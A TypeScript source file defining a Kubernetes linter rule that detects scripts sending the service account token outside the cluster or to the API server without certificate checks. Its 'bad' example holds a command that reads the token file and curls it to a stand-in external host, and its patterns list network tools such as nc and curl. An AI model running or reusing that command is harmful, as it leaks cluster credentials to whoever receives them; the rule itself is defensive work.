import type { Call } from '../../kube/pipeline/call.ts';
import type { Command } from '../../languages/shell.ts';
import { attack, cwe, docs, owasp } from '../../rule/references.ts';
import { defineRule } from '../../rule/rule.ts';
import { inScripts } from '../../rule/scripts.ts';
import { substitute } from '../../yaml/change.ts';
import type { Field } from '../../yaml/field.ts';

export const embeddedScriptTokenSent = defineRule({
  id: 'embedded-script-token-sent',
  summary: 'A script sends the token of its service account away, or without checking to whom',
  why: "Whoever gets the token acts as the pod until it runs out. A receiver outside the cluster has no use for it but that; without a check of the certificate anybody on the way poses as the API server and takes it. The API server's authority lies beside the token.",
  severity: 'high',
  preset: 'recommended',
  references: [
    owasp('K09:2025'),
    attack('T1528'),
    cwe(522),
    cwe(295),
    docs(
      'Accessing the API from a pod',
      'https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/#directly-accessing-the-rest-api',
    ),
  ],
  yieldsTo: ['gitlab-ci-download-tls-disabled'],
  examples: {
    bad: `
apiVersion: v1
kind: ConfigMap
metadata: {name: report}
data:
  report.sh: |
    TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
    curl -H "Authorization: Bearer $TOKEN" https://collector.example/report
#                                          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ curl sends the token of the service account out of the cluster
`,
    good: `
apiVersion: v1
kind: ConfigMap
metadata: {name: report}
data:
  report.sh: |
    ACCOUNT=/var/run/secrets/kubernetes.io/serviceaccount
    curl --cacert $ACCOUNT/ca.crt -H "Authorization: Bearer $(cat $ACCOUNT/token)" https://kubernetes.default.svc/api
`,
  },
  check: inScripts(function* (call, script) {
    if (!SENDERS.has(call.name)) return;
    const unchecked = call.rest.find(({ text }) => text !== undefined && UNCHECKED.test(text));
    if (unchecked !== undefined && call.rest.some(({ source }) => API.test(source))) {
      yield {
        at: call.line,
        within: unchecked.span,
        message: `${call.name} does not check that it talks to the API server`,
        ...(call.rest.some(({ source }) => /authorization|token/i.test(source)) ? {} : { severity: 'medium' }),
        fixes:
          call.name === 'curl' && /^(?:-k|--insecure)$/.test(unchecked.source)
            ? [
                {
                  title: 'Check the certificate',
                  safety: 'needs-review',
                  changes: [substitute(call.line, unchecked.span.start, unchecked.span.end, `--cacert ${FOLDER}/ca.crt`)],
                },
              ]
            : [],
      };
      return;
    }
    const address = call.rest.find(({ text }) => text !== undefined && isOutside(text));
    if (address === undefined || !holdsToken(call, script)) return;
    yield { at: call.line, within: address.span, message: `${call.name} sends the token of the service account out of the cluster` };
  }),
});

const FOLDER = '/var/run/secrets/kubernetes.io/serviceaccount';
const TOKEN = /\/run\/secrets\/kubernetes\.io\/serviceaccount\/token\b/;

const SENDERS: ReadonlySet<string> = new Set(['curl', 'wget', 'http', 'https', 'nc', 'ncat']);
const UNCHECKED = /^(?:--insecure|--no-check-certificate|--verify=no|-[a-jl-zA-Z]*k[a-zA-Z]*)$/;
const API = /kubernetes\.default|KUBERNETES_SERVICE_HOST|KUBERNETES_PORT/;

/** Another cluster's Vault and clouds take the token in exchange for one of theirs, which is what it is for. */
const EXCHANGES =
  /\/v1\/auth\/[\w/.-]{1,200}\/login|^https:\/\/(?:sts\.[\w.-]{0,99}amazonaws\.com|sts\.googleapis\.com|login\.microsoftonline\.com)/;

function isOutside(text: string): boolean {
  const host = /^https?:\/\/(?:[^@/]*@)?([^/:]+)/i.exec(text)?.[1];
  if (host === undefined || EXCHANGES.test(text)) return false;
  return (
    host.includes('.') &&
    !/^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|kubernetes\.default)|\.(?:svc|local|internal)(?:\.|$)/.test(host)
  );
}

/** The token's file is a word of it or read into one, or a variable has been given it before. */
function holdsToken(call: Call, script: readonly Call[]): boolean {
  const { words } = call.command;
  const { readers, names } = tokensIn(script);
  if (words.some(({ source }) => TOKEN.test(source)) || readers.has(call.command)) return true;
  return words.some(({ variables }) =>
    variables.some(({ name }) => {
      const assigned = names.get(name);
      return assigned !== undefined && (assigned.line !== call.line || assigned.start < call.span.start);
    }),
  );
}

interface Tokens {
  /** Commands that get it as a word. */
  readonly readers: ReadonlySet<Command | undefined>;
  /** Variables that hold it, and from where on. */
  readonly names: ReadonlyMap<string, { readonly line: Field; readonly start: number }>;
}

/** Every program of the script asks. */
const known = new WeakMap<readonly Call[], Tokens>();

function tokensIn(script: readonly Call[]): Tokens {
  const before = known.get(script);
  if (before !== undefined) return before;
  const reading = script.filter(({ rest }) => rest.some(({ source }) => TOKEN.test(source)));
  const names = new Map<string, { readonly line: Field; readonly start: number }>();
  for (const line of new Set(script.map((call) => call.line))) {
    for (const found of (line.text ?? '').matchAll(ASSIGNED)) {
      const name = found[1] ?? '';
      if (!names.has(name)) names.set(name, { line, start: found.index });
    }
  }
  const now = { readers: new Set(reading.map(({ command }) => command.substitutedInto)), names };
  known.set(script, now);
  return now;
}

const ASSIGNED = /\b([A-Za-z_]\w{0,60})=["']?(?:\$\(|`)[ \t]{0,9}(?:cat|<)[ \t]{1,9}["']?[^\s)`]{0,200}\/serviceaccount\/token\b/g;
